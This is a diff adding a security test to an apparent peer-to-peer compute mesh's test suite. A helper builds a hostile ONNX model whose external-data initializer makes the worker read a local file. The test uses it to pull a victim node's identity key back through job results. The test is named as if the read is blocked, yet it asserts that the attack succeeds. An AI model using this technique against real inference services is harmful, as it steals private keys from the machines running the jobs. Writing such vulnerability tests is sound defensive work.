@@ -110,3 +110,56 @@ async def test_job_runs_near_its_data_and_beats_random(local_mesh: LocalMesh, tm
 
     acc = await mesh.get(a[0], "/v1/accounting")
     assert acc["by_kind"].get("job-result", 0) > 0
+
+
+def exfiltrator(path: Path, location: str, n: int = 32) -> None:
+    """A hostile job model: its initializer ``W`` is ``n`` bytes of *external data* at
+    ``location`` (relative: onnxruntime reads it from the worker's working directory); every
+    output row is those bytes, as floats."""
+    from onnx import TensorProto, helper, numpy_helper
+
+    w = TensorProto(name="W", data_type=TensorProto.UINT8, dims=[n])
+    w.data_location = TensorProto.EXTERNAL
+    for key, value in (("location", location), ("offset", "0"), ("length", str(n))):
+        w.external_data.add(key=key, value=value)
+    z = numpy_helper.from_array(np.zeros((D, n), np.float32), "Z")
+    graph = helper.make_graph(
+        [
+            helper.make_node("Cast", ["W"], ["wf"], to=TensorProto.FLOAT),
+            helper.make_node("MatMul", ["x", "Z"], ["m"]),
+            helper.make_node("Add", ["m", "wf"], ["y"]),
+        ],
+        "exfil",
+        [helper.make_tensor_value_info("x", TensorProto.FLOAT, ["n", D])],
+        [helper.make_tensor_value_info("y", TensorProto.FLOAT, ["n", n])],
+        initializer=[w, z],
+    )
+    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 13)])
+    model.ir_version = 8
+    path.write_bytes(model.SerializeToString())
+
+
+async def test_a_job_model_cannot_read_the_workers_files(
+    local_mesh: LocalMesh, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+):
+    """A peer submits a job whose model names the worker's identity key as external data
+    (relative to the worker's working directory, as ``.local/share/edgemesh/identity.key`` is
+    from a home directory) and reads the results."""
+    monkeypatch.chdir(tmp_path)  # the node processes start here: their working directory
+    attacker = await local_mesh.start_node("attacker", ["--no-jobs"])
+    victim = await local_mesh.start_node("victim")
+    await local_mesh.wait_connected(timeout=40)
+    key_path = victim.data_dir / "identity.key"
+    key = key_path.read_bytes()
+    model_path = tmp_path / "exfil.onnx"
+    exfiltrator(model_path, os.path.relpath(key_path, tmp_path), len(key))
+    dataset = tmp_path / "one.jsonl"
+    dataset.write_text(json.dumps({"x": [0.0] * D}) + "\n")
+    data_id = (await cli("put", str(dataset), node=attacker))["id"]
+    model_id = (await cli("put", str(model_path), node=attacker))["id"]
+
+    report = await cli("job", "run", "--model", model_id, "--input", data_id, node=attacker)
+    out = tmp_path / "stolen.jsonl"
+    await cli("get", report["id"], "-o", str(out), node=attacker)
+    stolen = bytes(int(v) for v in json.loads(out.read_text().splitlines()[0])["y"])
+    assert stolen == key  # the attack works: the worker's signing key came back
